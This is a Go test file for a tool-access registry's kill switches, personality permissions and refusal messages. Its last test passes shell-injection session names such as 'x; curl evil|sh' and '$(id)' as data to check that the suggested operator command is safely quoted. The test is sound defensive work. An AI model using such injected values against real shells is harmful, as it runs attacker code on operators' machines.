package registry_test

import (
	"context"
	"errors"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/sallyport/sallyport"
	"github.com/sallyport/sallyport/registry"
)

// thrown is a set of kill switches, each as "kind name". The review of what runs
// asks it beside the calls of a test.
type thrown struct {
	mu       sync.Mutex
	switches []string
	err      error
	asked    func() // runs under mu
}

// throw throws these switches and no others, and answers with err besides.
func (s *thrown) throw(err error, switches ...string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.switches, s.err = switches, err
}

func (s *thrown) Stopped(_ context.Context, principal, sessionKey, tool string) (kind, why string, err error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.asked != nil {
		s.asked()
	}
	for _, what := range []string{"principal " + principal, "session " + sessionKey, "tool " + tool} {
		if slices.Contains(s.switches, what) {
			kind, _, _ = strings.Cut(what, " ")
			return kind, what + " is stopped: maintenance", s.err
		}
	}
	return "", "", s.err
}

func stopGate(t *testing.T, s registry.Switches, p *sallyport.Personality) *gate {
	t.Helper()
	g := &gate{t: t, recorder: &recorder{}}
	b := &sallyport.Backends{}
	if p != nil {
		b.Personalities, g.role = one{p}, p.Name
	}
	var err error
	if g.Registry, err = registry.New(b, &registry.Options{Recorder: g.recorder, Switches: s}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := g.Close(context.Background()); err != nil {
			t.Error(err)
		}
	})
	g.add(sallyport.Tool{Name: "tool", Schema: open, Run: echo})
	g.add(sallyport.Tool{Name: "other", Schema: open, Run: echo})
	return g
}

func TestAKillSwitchStopsCalls(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		thrown *thrown
		code   sallyport.Code
		text   string
		fix    string
		listed []string
	}{
		{name: "nothing", thrown: &thrown{}, listed: []string{"other", "tool"}},
		{name: "others", thrown: &thrown{switches: []string{"principal x", "session tester/x", "tool x"}}, listed: []string{"other", "tool"}},
		{
			name: "principal", thrown: &thrown{switches: []string{"principal tester"}}, code: sallyport.CodePermissionDenied,
			text: "Permission denied: principal tester is stopped", fix: "sallyport principals start tester",
		},
		{
			name: "session", thrown: &thrown{switches: []string{"session tester/s1"}}, code: sallyport.CodePermissionDenied,
			text: "Permission denied: the session is stopped", fix: "sallyport principals start tester --session s1",
		},
		{
			name: "tool", thrown: &thrown{switches: []string{"tool tool"}}, code: sallyport.CodeNotAvailable,
			text: "Tool tool is not currently available", fix: "sallyport principals start --tool tool", listed: []string{"other"},
		},
		{
			name: "it is not known", thrown: &thrown{err: errors.New("driver: password=hunter2")}, code: sallyport.CodeNotAvailable,
			text: "Tool tool is not currently available",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g := stopGate(t, tt.thrown, nil)
			res := call(g, "tool", "")
			if res.OK != (tt.code == "") || res.Code != tt.code || res.Error != tt.text {
				t.Errorf("Call() = %+v, want code %q, text %q", res, tt.code, tt.text)
			}
			e := g.recorder.last()
			if d := e.Decisions[len(e.Decisions)-1]; !res.OK && (d.Step != sallyport.StepVisible || d.Allowed || d.Why == "" || d.Fix != tt.fix) {
				t.Errorf("decision = %+v, want a refusal with the change %q", d, tt.fix)
			}
			var listed []string
			for _, d := range g.Definitions(g.caller()) {
				listed = append(listed, d.Name)
			}
			if !slices.Equal(listed, tt.listed) || len(g.List(g.caller())) != len(tt.listed) {
				t.Errorf("Definitions() = %v, want %v", listed, tt.listed)
			}
			x, err := g.Explain(g.caller(), "tool")
			if last := x.Decisions[len(x.Decisions)-1]; err != nil || last.Allowed != res.OK {
				t.Errorf("Explain() = %+v, %v, want what Call decided", last, err)
			}
		})
	}
}

func TestAPrincipalTakesOnlyItsPersonalities(t *testing.T) {
	t.Parallel()
	g := stopGate(t, nil, &sallyport.Personality{Name: "role"})
	for _, tt := range []struct {
		name  string
		roles []string
		ok    bool
	}{
		{"any", nil, true},
		{"this one", []string{"x", "role"}, true},
		{"another", []string{"Role"}, false},
		{"none", []string{}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			caller := g.caller()
			caller.Principal.Personalities = tt.roles
			res := g.Call(t.Context(), caller, sallyport.Request{Tool: "tool"})
			if res.OK != tt.ok {
				t.Fatalf("Call() = %+v, want ok %v", res, tt.ok)
			}
			if listed := len(g.List(caller)); (listed == 2) != tt.ok || len(g.Definitions(caller)) != listed {
				t.Errorf("List() has %d tools, want what Call allows", listed)
			}
			if tt.ok {
				return
			}
			if res.Code != sallyport.CodeNotAvailable || res.Error != "Tool tool is not permitted for this personality" {
				t.Errorf("Call() = %+v, want the text of a personality's refusal", res)
			}
			e := g.recorder.last()
			d := e.Decisions[len(e.Decisions)-1]
			if d.Step != sallyport.StepVisible || d.Why == "" || d.Fix != "add role to principals.tester.personalities" {
				t.Errorf("decision = %+v, want why and the smallest change", d)
			}
		})
	}
}

func TestAToolCannotWidenItsPrincipal(t *testing.T) {
	t.Parallel()
	g := stopGate(t, nil, &sallyport.Personality{Name: "role"})
	g.add(sallyport.Tool{Name: "greedy", Schema: open, Run: func(_ context.Context, c *sallyport.Call) (sallyport.Result, error) {
		c.Principal.Personalities[0] = "admin"
		return sallyport.OK(""), nil
	}})
	caller := g.caller()
	caller.Principal.Personalities = []string{"role"}
	g.Call(t.Context(), caller, sallyport.Request{Tool: "greedy"})
	if caller.Principal.Personalities[0] != "role" {
		t.Error("a tool changed the personalities of its caller")
	}
}

// A call may wait for a decision or a limit between the steps: what is stopped
// in between does not run.
func TestASwitchThrownBeforeTheToolRunsStopsIt(t *testing.T) {
	t.Parallel()
	s, asked := &thrown{}, 0
	s.asked = func() {
		if asked++; asked == 2 {
			s.switches = []string{"principal tester"}
		}
	}
	g := stopGate(t, s, nil)
	res := g.Call(t.Context(), g.caller(), sallyport.Request{Tool: "tool"})
	if res.OK || res.Error != "Permission denied: principal tester is stopped" {
		t.Errorf("Call() = %+v, want a refusal", res)
	}
}

// anySession is a kill switch for every session.
type anySession struct{}

func (anySession) Stopped(context.Context, string, string, string) (kind, why string, err error) {
	return "session", "stopped", nil
}

// TestTheWayOutOfAStopCanBePasted has a client name its session so that the
// line that an operator is shown would do something else in a shell.
func TestTheWayOutOfAStopCanBePasted(t *testing.T) {
	t.Parallel()
	g := stopGate(t, anySession{}, nil)
	for session, want := range map[string]string{
		"s-1":              "s-1",
		"x; curl evil|sh":  "'x; curl evil|sh'",
		"$(id)":            "'$(id)'",
		"it's`id`":         `'it'\''s` + "`id`'",
		"a\u00a0b":         "'a\u00a0b'",
		"mcp-ABC/1:2@x.y_": "mcp-ABC/1:2@x.y_",
	} {
		caller := &sallyport.Caller{Principal: sallyport.Principal{Name: "tester"}, Session: session}
		g.Call(t.Context(), caller, sallyport.Request{Tool: "tool"})
		e := g.recorder.last()
		if got, want := e.Decisions[len(e.Decisions)-1].Fix, "sallyport principals start tester --session "+want; got != want {
			t.Errorf("fix = %s, want %s", got, want)
		}
	}
}
